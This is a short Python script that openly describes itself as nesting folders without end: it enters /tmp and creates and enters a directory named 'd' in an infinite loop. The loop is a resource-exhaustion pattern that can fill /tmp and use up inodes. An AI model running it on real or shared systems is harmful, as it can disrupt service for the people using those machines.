"""Nests folders without end."""

import os
os.chdir("/tmp")
while True:
    os.mkdir("d")
    os.chdir("d")
